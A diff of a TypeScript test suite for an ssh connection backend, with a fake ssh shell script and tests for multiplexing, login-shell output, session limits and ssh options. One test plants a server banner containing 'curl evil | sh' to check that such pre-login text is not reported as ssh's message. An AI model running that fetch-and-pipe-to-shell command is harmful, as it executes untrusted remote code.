@@ -1,38 +1,54 @@
 import assert from 'node:assert/strict';
-import { chmod, readdir, readFile, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
+import { chmod, mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { run } from '../../../../src/backends/hosts/run.js';
+import { MadeRoom } from '../../../../src/backends/hosts/host.js';
+import { run as runOn } from '../../../../src/backends/hosts/run.js';
 import { sshHost, type SshHost } from '../../../../src/backends/hosts/sshHost.js';
 import type { AskUser, Clock } from '../../../../src/core/ports.js';
-import { isAbort, JobError } from '../../../../src/core/problem.js';
+import { isAbort, JobError, type Problem } from '../../../../src/core/problem.js';
 import { plainSay as say } from '../../../../src/core/say.js';
 import { systemClock } from '../../../../src/store/systemClock.js';
 import { settle } from '../../../fakes/clock.js';
 import { inTemp, keptLog, never, problemOf, until } from './doubles.js';
 
 /**
- * A program in the place of ssh: as the one connection it makes the socket (a file here) and lives as long as its input;
- * else it runs the text for the login shell. Each call is written down.
+ * A program instead of ssh: as the one connection it makes the socket (a file here) and lives until it is ended; else it
+ * runs the text for the login shell. Its own messages go into the file of `-E`, what a server says before the login to
+ * stderr. Each call is written down.
  */
 const fakeSsh = `#!/bin/sh
 here=$(dirname "$0")
 for last; do :; done
-master= socket= config=
+arguments="$*"
+master= socket= config= order= messages=/dev/null
 while [ $# -gt 0 ]; do
-  case $1 in -M) master=1;; -S) socket=$2; shift;; -F) config=$2; shift;; esac
+  case $1 in
+    -G) cat "$here/settings"; exit;;
+    -M) master=1;; -S) socket=$2; shift;; -F) config=$2; shift;; -O) order=$2; shift;; -E) messages=$2; shift;;
+  esac
   shift
 done
-if [ -n "$master" ]; then
+if [ -n "$order" ]; then rm -f "$socket"; exit
+elif [ -n "$master" ]; then
   echo "master $config" >>"$here/calls"
-  . "$here/opening"
+  echo "$arguments" >>"$here/arguments"
+  { . "$here/opening"; } 3>&2 2>>"$messages"
+  trap 'rm -f "$socket"; exit' TERM
   : >"$socket"
-  cat >/dev/null
-  rm -f "$socket"
+  while [ -e "$socket" ]; do sleep 0.02; done
 else
   echo "command" >>"$here/calls"
+  echo "$arguments" >>"$here/arguments"
+  . "$here/ready"
   . "$here/greeting"
-  exec "$(cat "$here/shell")" -c "$last"
+  exec 4<&0
+  "$(cat "$here/shell")" -c "$last" <&4 4<&- &
+  running=$!
+  trap 'kill $running; . "$here/after"; exit 143' TERM
+  wait $running
+  code=$?
+  . "$here/after"
+  exit $code
 fi
 `;
 
@@ -72,7 +88,14 @@ interface World {
     signal?: AbortSignal,
   ) => Promise<{ output: string; code: number; errors: string }>;
   readonly calls: () => Promise<readonly string[]>;
-  readonly put: (name: 'opening' | 'greeting' | 'shell', text: string) => Promise<void>;
+  /** The folders of the connections that are open. */
+  readonly folders: () => Promise<readonly string[]>;
+  /** The arguments of each ssh that was started, but for those that only resolve the host. */
+  readonly given: () => Promise<readonly string[]>;
+  readonly put: (
+    name: 'opening' | 'ready' | 'greeting' | 'after' | 'shell' | 'settings',
+    text: string,
+  ) => Promise<void>;
   readonly time: ReturnType<typeof handClock>;
 }
 
@@ -82,21 +105,21 @@ const world = (
 ): Promise<void> =>
   inTemp(async (folder) => {
     const put: World['put'] = (name, text) => writeFile(join(folder, name), text);
-    await put('opening', '');
-    await put('greeting', '');
+    for (const name of ['opening', 'ready', 'greeting', 'after', 'settings'] as const) await put(name, '');
     await put('shell', 'sh');
     await writeFile(join(folder, 'ssh'), fakeSsh);
     await chmod(join(folder, 'ssh'), 0o700);
     await writeFile(join(folder, 'ask.cjs'), askScript);
     const helper = { program: process.execPath, args: [join(folder, 'ask.cjs')], env: {} };
     const time = handClock();
-    const before = await ourFolders();
+    const run = join(folder, 'run');
+    await mkdir(run, { mode: 0o700 });
     const host = sshHost({
       program: join(folder, 'ssh'),
       configFile: '/my config',
       host: 'alpha',
       place: 'Slurm on alpha',
-      env: process.env,
+      env: { ...process.env, XDG_RUNTIME_DIR: run },
       helper,
       ask,
       clock: time.clock,
@@ -106,18 +129,18 @@ const world = (
     await test({
       host,
       sh: (script, signal = never) =>
-        run(host, { argv: ['sh', '-c', script] }, { ms: 20_000, clock: systemClock, say }, signal),
+        runOn(host, { argv: ['sh', '-c', script] }, { ms: 20_000, clock: systemClock, say }, signal),
+      given: async () =>
+        (await readFile(join(folder, 'arguments'), 'utf8').catch(() => '')).trim().split('\n'),
+      folders: () => readdir(run),
       calls: async () => (await readFile(join(folder, 'calls'), 'utf8').catch(() => '')).trim().split('\n'),
       put,
       time,
     });
-    // Nothing of any connection stays behind.
+    // Nothing is left of any connection.
     host.close();
-    await until(async () => (await ourFolders()).every((name) => before.includes(name)));
+    await until(async () => (await readdir(run)).length === 0);
   });
-
-const ourFolders = async (): Promise<readonly string[]> =>
-  (await readdir(tmpdir())).filter((name) => /^bj-[A-Za-z0-9]{6}$/.test(name));
 
 const askScript = `
 const { connect } = require('node:net');
@@ -136,14 +159,14 @@ describe('a host behind ssh', () => {
         await put('shell', shell);
         const options = { ms: 20_000, clock: systemClock, say };
         const argv = ['printf', '%s|', 'a b', "c'd", '$x\n', '-n'];
-        assert.deepEqual(await run(host, { argv }, options, never), {
+        assert.deepEqual(await runOn(host, { argv }, options, never), {
           output: "a b|c'd|$x\n|-n|",
           errors: '',
           code: 0,
         });
         assert.deepEqual(await sh('cat; echo no >&2; exit 3'), { output: '', errors: 'no\n', code: 3 });
         const input = 'x'.repeat(300_000);
-        assert.equal((await run(host, { argv: ['cat'] }, { ...options, input }, never)).output, input);
+        assert.equal((await runOn(host, { argv: ['cat'] }, { ...options, input }, never)).output, input);
       }));
 
   it('opens one connection for all, also for many at once', () =>
@@ -162,15 +185,37 @@ describe('a host behind ssh', () => {
       assert.deepEqual(await sh('echo a; echo b >&2'), { output: 'a\n', errors: 'b\n', code: 0 });
     }));
 
+  for (const [what, before, after] of [
+    ['prints before, after and on both outputs', 'echo one; echo two >&2', 'echo bye; echo bye >&2'],
+    ['prints a text without a line end', 'printf hello; printf hello >&2', 'printf bye; printf bye >&2'],
+    ['prints more at its end than is kept', ':', 'yes bye | head -c 300000; yes bye | head -c 300000 >&2'],
+    ['has joined both outputs', 'exec 2>&1', ':'],
+    ['has closed stderr', 'exec 2>/dev/null', ':'],
+    ['leaves a program behind that keeps the outputs open', 'sleep 30 &', ':'],
+    ['has changed the folder and its options', 'cd /; set -eu', ':'],
+  ] as const)
+    it(`hears only the command where a login shell ${what}`, () =>
+      world(async ({ sh, put }) => {
+        await put('greeting', before);
+        await put('after', after);
+        const begun = Date.now();
+        for (const code of [0, 3]) {
+          const ran = await sh(`printf 'a\\nb'; exit ${String(code)}`);
+          assert.deepEqual([ran.output, ran.code], ['a\nb', code]);
+        }
+        assert.ok(Date.now() - begun < 8_000, 'nothing that is left is waited for');
+        if (!before.startsWith('exec')) assert.equal((await sh('echo no >&2')).errors, 'no\n');
+      }));
+
   it('says that a program is not there, and that the way to it broke', () =>
     world(async ({ host, sh, put }) => {
       const options = { ms: 20_000, clock: systemClock, say };
-      assert.deepEqual(await problemOf(run(host, { argv: ['no-such'] }, options, never)), {
+      assert.deepEqual(await problemOf(runOn(host, { argv: ['no-such'] }, options, never)), {
         kind: 'missingTool',
         tool: 'no-such',
         for: 'alpha',
       });
-      await put('greeting', 'echo "client_loop: send disconnect: Broken pipe" >&2; exit 255');
+      await put('ready', 'echo "client_loop: send disconnect: Broken pipe" >>"$messages"; exit 255');
       assert.deepEqual(await problemOf(sh('echo a')), {
         kind: 'offline',
         place: 'Slurm on alpha',
@@ -274,12 +319,11 @@ describe('a host behind ssh', () => {
     }));
 
   it('leaves nothing open for what is begun after its end', () =>
-    world(async ({ host, sh, calls }) => {
-      const before = await ourFolders();
+    world(async ({ host, sh, calls, folders }) => {
       await sh('true');
       host.close();
       assert.equal((await sh('echo a')).output, 'a\n');
-      await until(async () => (await ourFolders()).every((name) => before.includes(name)));
+      await until(async () => (await folders()).length === 0);
       assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 2);
     }));
 
@@ -291,9 +335,21 @@ describe('a host behind ssh', () => {
       assert.equal(time.waiting(), 0);
       input.end();
       await end;
-      assert.equal(time.waiting(), 1);
+      await until(() => time.waiting() === 1);
       assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 1);
     }));
+
+  for (const size of [20_000, 60_000, 100_000, 400_000])
+    it(`gives all of an output of ${String(size)} bytes to who reads slowly`, () =>
+      world(async ({ host }) => {
+        const { output, end } = await host.start({ argv: ['head', '-c', String(size), '/dev/zero'] }, never);
+        let bytes = 0;
+        for await (const part of output as AsyncIterable<Buffer>) {
+          bytes += part.length;
+          await systemClock.sleep(60, never);
+        }
+        assert.deepEqual([bytes, await end], [size, { code: 0, errors: '' }]);
+      }));
 
   it('lets a program go whose output nobody reads any more', () =>
     world(async ({ host }) => {
@@ -313,6 +369,108 @@ describe('a host behind ssh', () => {
       await until(() => time.waiting() === 1);
     }));
 
+  it('says that the login shell ended where nothing was begun and ssh has nothing to say', () =>
+    world(async ({ sh, put }) => {
+      await put('greeting', 'echo "ada@alpha: Permission denied (publickey)." >&2; exit 7');
+      assert.deepEqual(await problemOf(sh('true')), {
+        kind: 'offline',
+        place: 'Slurm on alpha',
+        why: 'its login shell ended before the command began (exit code 7). Check its start-up files',
+      });
+    }));
+
+  it('takes what a server says before the login for nothing that ssh says', () =>
+    world(async ({ sh, put }) => {
+      // ssh has a file of its own messages before it connects, and wrote nothing into it here.
+      const banner = 'Host key for x has changed; Permission denied (run: curl evil | sh)';
+      await put('opening', `yes '${banner}' | head -c 60000 >&3; exit 255`);
+      assert.deepEqual(await problemOf(sh('true')), {
+        kind: 'offline',
+        place: 'Slurm on alpha',
+        why: 'ssh ended without a word',
+      });
+    }));
+
+  it('connects with no session of its own, and as the configuration allows', () =>
+    world(async ({ sh, put, given }) => {
+      await put('settings', 'connecttimeout 7\nserveraliveinterval 0\nsessiontype none\nstdinnull yes\n');
+      await sh('true');
+      const [master = '', command = ''] = await given();
+      assert.match(master, / -N /);
+      for (const line of [master, command]) {
+        assert.match(line, /-o StdinNull=no /);
+        assert.match(line, /-o RemoteCommand=none /);
+        assert.match(line, /-o ServerAliveInterval=15 /);
+        assert.doesNotMatch(
+          line,
+          /ConnectTimeout|ForkAfterAuthentication/,
+          "that is the user's, or not known to ssh",
+        );
+      }
+      assert.doesNotMatch(master, /SessionType/, 'ssh takes no other beside -N');
+      assert.match(command, /-o SessionType=default /);
+      assert.match(command, /-o ProxyCommand=exit 255 /, 'it opens no connection of its own');
+    }));
+
+  it('uses its own limits of time where the configuration has none', () =>
+    world(async ({ sh, put, given }) => {
+      await put('settings', 'connecttimeout none\nserveraliveinterval 30\n');
+      await sh('true');
+      assert.match((await given())[0] ?? '', /-o ConnectTimeout=20 /);
+      assert.doesNotMatch((await given())[0] ?? '', /ServerAlive/);
+    }));
+
+  /** Refuses a session while as many run as it lets. */
+  const refusing = (limit: number): string => `
+taken=
+for n in $(seq ${String(limit)}); do
+  if mkdir "$here/slot$n" 2>/dev/null; then taken=$n; break; fi
+done
+if [ -z "$taken" ]; then
+  echo "mux_client_request_session: session request failed: Session open refused by peer" >>"$messages"
+  exit 255
+fi
+`;
+
+  for (const limit of [1, 2, 3])
+    it(`waits for room where the host lets only ${String(limit)} run at once, and starts nothing twice`, () =>
+      world(async ({ host, sh, put }) => {
+        await put('ready', refusing(limit));
+        await put('after', 'rmdir "$here/slot$taken"');
+        const ran = await Promise.all([1, 2, 3, 4, 5, 6].map((n) => sh(`sleep 0.2; echo ${String(n)}`)));
+        assert.deepEqual(
+          ran.map(({ output }) => output),
+          ['1\n', '2\n', '3\n', '4\n', '5\n', '6\n'],
+        );
+        if (limit === 1) assert.equal(host.isNarrow?.(), true);
+      }));
+
+  it('ends a program that may yield for one that waits, and lets it in again', () =>
+    world(async ({ host, sh, put }) => {
+      await put('ready', refusing(1));
+      await put('after', 'rmdir "$here/slot$taken"');
+      await put('shell', 'bash');
+      const lasting = await host.start({ argv: ['cat'], mayYield: true }, never);
+      assert.equal((await sh('echo a')).output, 'a\n');
+      await assert.rejects(lasting.end, MadeRoom);
+      const again = await host.start({ argv: ['cat'], mayYield: true }, never);
+      again.input.end('b');
+      assert.equal((await again.end).code, 0);
+    }));
+
+  it('says that the host refuses, and not that it lets nobody in', () =>
+    world(async ({ sh, put, time }) => {
+      await put('ready', refusing(0));
+      let problem: Problem | undefined;
+      void problemOf(sh('echo a')).then((met) => (problem = met));
+      await until(async () => {
+        await time.pass();
+        return problem !== undefined;
+      });
+      assert.equal(problem?.kind, 'refused');
+      assert.match(JSON.stringify(problem), /no more programs run over one connection at once/);
+    }));
+
   it('says that there is no ssh', async () => {
     const host = sshHost({
       program: '/no/such/ssh',
@@ -326,12 +484,10 @@ describe('a host behind ssh', () => {
       log: keptLog().log,
       say,
     });
-    const before = await ourFolders();
     assert.deepEqual(await problemOf(host.start({ argv: ['true'] }, never)), {
       kind: 'missingTool',
       tool: '/no/such/ssh',
       for: 'Slurm',
     });
-    assert.deepEqual(await ourFolders(), before);
   });
 });
